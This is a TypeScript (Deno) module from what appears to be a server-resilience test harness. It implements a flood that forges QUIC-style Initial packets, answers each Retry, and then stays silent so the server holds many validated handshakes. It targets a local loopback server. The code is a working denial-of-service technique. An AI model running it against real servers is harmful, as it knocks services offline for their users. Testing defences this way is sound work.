import type { Attack, AttackContext, Numbers } from "../attack.ts";
import { honestBounds } from "../attack.ts";
import { pause } from "../honest_client.ts";
import { InitialForge, readRetry } from "../initial_forge.ts";

/** Milliseconds between two batches of packets. */
const TICK = 20;

/**
 * Clients that prove their address when they are asked to, and then say nothing more: each leaves a
 * handshake open that the server has signed for.
 */
function silenceAfterRetry(
  name: string,
  addresses: (i: number) => string,
  short?: Numbers,
): Attack {
  return {
    name,
    row: "B1",
    victim: "server",
    full: { rate: 300, addresses: 200, ramp: 8_000 },
    ...short && { short },
    run: (context) => new Flood(context, addresses).run(),
    bounds: honestBounds,
  };
}

/** All of them at one address, which is all that an attacker needs to have. */
export const silenceOfOne = silenceAfterRetry(
  "silence after Retry, one address",
  () => "127.1.1.1",
  { rate: 300, addresses: 1, ramp: 4_000 },
);

/** A different address for each, in one IPv4 /24. */
export const silenceOfPrefix = silenceAfterRetry(
  "silence after Retry, one /24",
  (i) => `127.1.1.${i % 250 + 1}`,
);

/** A different /24 for each. */
export const silenceOfMany = silenceAfterRetry(
  "silence after Retry, many /24s",
  (i) => `127.2.${i % 250}.1`,
);

class Flood {
  readonly #context: AttackContext;
  readonly #forge = new InitialForge();
  readonly #sockets: Deno.DatagramConn[] = [];
  readonly #target: Deno.NetAddr;
  /** Datagrams that may be sent now. */
  #allowance = 0;
  #sent = 0;
  #retries = 0;

  constructor(context: AttackContext, addresses: (i: number) => string) {
    this.#context = context;
    this.#target = { transport: "udp", hostname: "127.0.0.1", port: context.port };
    const hostnames = new Set<string>();
    for (let i = 0; i < context.size.addresses!; i++) hostnames.add(addresses(i));
    for (const hostname of hostnames) {
      this.#sockets.push(Deno.listenDatagram({ transport: "udp", hostname, port: 0 }));
    }
  }

  async run(): Promise<Numbers> {
    const { size, stopped } = this.#context;
    const start = performance.now();
    let isReady = false;
    let due = 0;
    for (const socket of this.#sockets) this.#answer(socket);
    for (let turn = 0; !stopped.aborted;) {
      const time = performance.now() - start;
      const now = time / 1_000 * size.rate!;
      this.#allowance += now - due;
      due = now;
      for (; this.#allowance >= 1; turn++) {
        this.#send(this.#sockets[turn % this.#sockets.length]!, this.#forge.make());
      }
      if (!isReady && time > size.ramp!) {
        isReady = true;
        this.#context.ready();
      }
      await pause(TICK);
    }
    for (const socket of this.#sockets) socket.close();
    return { sent: this.#sent, retries: this.#retries };
  }

  #send(socket: Deno.DatagramConn, datagram: Uint8Array): void {
    this.#allowance--;
    this.#sent++;
    socket.send(datagram, this.#target).catch(() => {});
  }

  async #answer(socket: Deno.DatagramConn): Promise<void> {
    try {
      for await (const [datagram] of socket) {
        const retry = readRetry(datagram);
        if (retry === undefined) continue;
        this.#retries++;
        this.#send(socket, this.#forge.make(retry.sourceId, retry.token));
      }
    } catch {
      // It was closed while it waited.
    }
  }
}
